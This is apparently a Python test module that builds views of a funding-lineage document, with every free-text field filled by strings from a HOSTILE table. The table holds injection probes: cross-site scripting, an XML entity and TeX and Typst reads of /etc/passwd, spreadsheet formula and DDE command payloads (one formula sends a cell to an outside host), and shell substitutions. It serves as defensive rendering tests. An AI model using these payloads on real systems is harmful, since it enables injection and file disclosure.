"""Views for the tests: of the frozen lineage, and of a lineage with one text in every field."""

from __future__ import annotations

from typing import Any

from seedline.document.types import Document
from seedline.views.look import Look
from seedline.views.view import View
from tests.render.documents import BASE, Json, commitment, ct0921, document, edge, money, node

# What a data file can hold that a program downstream might run, reorder or choke on.
HOSTILE = {
    "tag": "<img src=x onerror=alert(1)>",
    "script": "</script><script>alert(1)</script>",
    "cdata": "]]> <![CDATA[ <!-- --> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "address": "javascript:alert(1)",
    "bidi": "\u202edetsurt\u202c \u2066hidden\u2069 \u200fmark",
    "control": "null\x00 bell\x07 escape\x1b[31m \ufffe\uffff \ud800 end",
    "long": "x" * 10_000,
    "words": "word " * 2_000,
    "emoji": "👩🏽‍🌾 seeds 🌱🇻🇳 漢字 ภาษา",
    "formula": '=HYPERLINK("http://elsewhere.example/?"&A1,"+1-2@x")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "quotes": "\" onload=\"alert(1)\" ' onclick='alert(1) `id` $(id) \\N{x} %s {0} {{7*7}} {% x %}",
    "mermaid": "end\"] --> x; click n0 \"javascript:alert(1)\" %%{init: {'securityLevel':'loose'}}%% end",
    "dot": "\\\"]; n9 -> n8 [URL=\"javascript:alert(1)\"]; } digraph x { <b>html</b> \\",
    "typst": "#read(\"/etc/passwd\") #import \"@preview/x:1.0.0\" *b* _i_ $x$ @ref <label> \\ [x] = h",
    "tex": "\\input{/etc/passwd} % {\\\\ } ~ ^ & # $",
    "lines": "one\nTY  - BOOK\r\nER  - \n}\n@book{x,\ttwo",
    "arabic": "مشروع CT.0921 (المرحلة 2)",
    "nepali": "परियोजना क्षेत्र",
    "scripts": "Ắằờữ ДІЯ a\u0301\u0301\u0301",
}  # fmt: skip


def frozen(**look: Any) -> View:
    """Return the view of the frozen CT.0921."""
    return View(
        Document.of_json(ct0921()),
        name="CT.0921",
        look=Look(**look),
        address="https://example.org/view/lineage/CT.0921",
    )


def filled(text: str) -> Json:
    """Return a document of three things and two steps with one text in every field that is free text."""
    evidence = [
        {"iri": f"{BASE}evidence/{text[:40]}", "kind": "TextSpan", "source": text, "sourceTitle": text, "section": text,
         "page": text, "url": text, "name": text, "role": text, "lines": [1, 2], "start": 1, "end": 2, "sha256": text}
    ]  # fmt: skip
    country = {"code": "XX", "label": text, "qualifier": text}
    alignment = {"iri": text, "to": text, "code": text, "framework": "sdg", "label": text, "evidence": evidence}
    stage = {"stage": "draft", "asOf": text, "body": text, "evidence": evidence}
    more = {
        "label": text, "title": text, "summary": text, "codes": [text], "start": text, "end": text, "sources": [text],
        "countries": [country], "alignments": [alignment], "policyStage": stage, "fundingYear": text,
    }  # fmt: skip
    nodes = [
        node("a", "seed", "seedProject", **more),
        node("b", "produced", "product", **{**more, "productKind": text}),
        node("c", "followed", "policy", **{**more, "iri": text + "c", "id": text}),
    ]
    of = [commitment(key, "b", None if key == "z" else "1000", funderLabel=text, funderAsStated=text, asOf=text,
                     summary=text, purpose=text, evidence=evidence, assertedBy="fund") for key in "xyz"]  # fmt: skip
    sums = money(
        seed={"amount": "1000", "bound": "exact"}, leverageReason=text, seeds=[of[0]], commitments=[of[1]],
        followOn={"amount": "1000", "bound": "about", "byStatus": {"secured": "1000"}},
        leftOut=[{"iri": of[2]["iri"], "reason": text, "commitment": of[2]}],
    )  # fmt: skip
    steps = [
        edge("one", "a", "b", status="achieved", statusAsOf=text, summary=text, evidence=evidence, note=text),
        edge("two", "b", "c", "scaledInto", status="blocked", statusAsOf="2021", date=text, summary=text,
             dimensions=[{"iri": text, "dimension": text, "reason": text}], evidence=evidence, basis="inferred",
             commitments=[of[1]["iri"]], to=text + "c"),
    ]  # fmt: skip
    carrier = {"iri": text, "kind": "institution", "node": BASE + "b", "agent": text, "label": text, "asOf": text,
               "summary": text, "evidence": evidence}  # fmt: skip
    return document(nodes, steps, summary=text, money=[sums], carriedOnBy=[carrier], version=text[:20])


def hostile(text: str, **look: Any) -> View:
    """Return a view with one text everywhere."""
    return View(
        Document.of_json(filled(text)), name=text[:60], look=Look(**look), address="https://example.org/view/lineage/x"
    )
